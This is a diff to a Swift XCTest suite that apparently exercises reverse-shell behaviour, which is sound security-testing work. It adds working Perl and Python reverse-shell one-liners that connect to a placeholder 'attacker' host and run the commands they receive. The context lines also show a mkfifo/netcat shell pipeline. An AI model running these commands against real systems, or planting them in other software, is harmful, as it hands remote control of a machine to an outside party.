@@ -120,6 +120,31 @@ final class ReverseShellLiveTests: XCTestCase {
         }
     }
 
+    /// perl's stdin/stdout become the socket (IO::Socket + fdopen) and perl runs each received line
+    /// itself (`system`, no shell for a plain word): the interpreter is the shell.
+    func testPerlIOSocketCommandLoop() throws {
+        try assertReverseShell { port in
+            ["/usr/bin/perl", "-MIO::Socket::INET", "-e", """
+            $c=IO::Socket::INET->new(PeerAddr=>"\(Self.attacker):\(port)") or exit 1;STDIN->fdopen($c,"r");$~->fdopen($c,"w");            STDOUT->fdopen($c,"w");STDOUT->autoflush(1);while(<STDIN>){chomp;system($_);}
+            """]
+        }
+    }
+
+    /// A python one-liner that never touches its own stdio: it receives commands on its socket, runs
+    /// each through a shell with the output captured on a pipe, and sends the output back.
+    func testPythonCommandLoopWithCapturedOutput() throws {
+        try assertReverseShell { port in
+            ["/usr/bin/python3", "-c", """
+            import socket,subprocess
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5)
+            while True:
+                d=s.recv(1024)
+                if not d: break
+                s.sendall(subprocess.run(d.decode(),shell=True,capture_output=True).stdout)
+            """]
+        }
+    }
+
     func testMkfifoNetcatPipeline() throws {
         try assertReverseShell(shellNamed: "sh") { port in
             ["sh", "-c", "rm -f /tmp/f\(port); mkfifo /tmp/f\(port); cat /tmp/f\(port) | /bin/sh -i 2>&1 | nc \(Self.attacker) \(port) > /tmp/f\(port)"]
